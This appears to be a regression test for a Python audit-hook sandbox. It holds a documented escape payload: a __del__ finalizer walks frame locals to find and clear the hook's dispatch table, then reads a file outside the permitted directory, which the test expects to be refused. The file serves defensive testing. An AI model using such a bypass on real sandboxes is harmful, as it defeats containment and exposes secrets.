# rule: expose-ro=.
# expect: file PermissionError

"""Objective: read ../outside/secret.txt after emptying the hook's dispatch table, from a
``__del__`` that the hook triggers by *splicing* guard entries out of a traceback -- while it
holds the ``busy`` mark that lets the guard's own events through. No module but ``sys``.

The fix of ``r3_disarm_del_on_frame_clear.py`` keeps what ``frame.clear()`` releases in a
graveyard until the hook returns. But ``on_getattr`` also calls ``cut_guard_tail(tb)`` in the
same busy section when ``tb_frame`` is read: it sets ``tb_next`` past the guard's entries, and
the traceback objects it drops -- with the frames only they (and each other's ``f_back``) keep
alive -- are freed on the spot, and with them the frames' locals.

1. ``posix.setuid(Obj())`` is refused (``pysandboxes.call``); the refusal leaves through the
   wrapper's frames (guard code), which stay in its traceback holding ``args``: the only
   reference left to ``Obj()``.
2. The program reads ``tb_frame`` of the traceback's *first* entry (its own frame). The hook
   splices the wrapper's entries out: the frames are deallocated, ``Obj()`` with them, and its
   ``__del__`` runs under ``cut_guard_tail``, ``on_getattr`` and ``_hook_body``, busy (the read
   itself is then refused as introspection, too late).
3. In ``__del__``, ``sys._getframe()`` is let through (busy), and its ``f_back`` chain (no
   audit event) reaches ``_hook_body``, whose ``f_locals`` (no event) hold ``get``, the bound
   ``dict.get`` of the dispatch table.
"""

from _harness import attempt


def payload():
    import sys

    posix = sys.modules['posix']
    found = []

    class Obj:
        def __del__(self):
            try:
                frame = sys._getframe()
            except BaseException:
                return
            while frame is not None:
                names = frame.f_locals
                if 'get' in names and 'strip' in names:
                    found.append(names['get'])
                    break
                frame = frame.f_back

    try:
        posix.setuid(Obj())  # refused (privileges); TypeError under plain python3
    except Exception as exc:
        tb = exc.__traceback__
        exc = None
        try:
            tb.tb_frame
        except Exception:  # refused as introspection, after the entries were cut
            pass
        tb = None
    for get in found[:1]:
        get.__self__.clear()
    with open('../outside/secret.txt') as f:
        data = f.read()
    assert data == 'the secret\n', data
    return data, len(found)


attempt(payload)
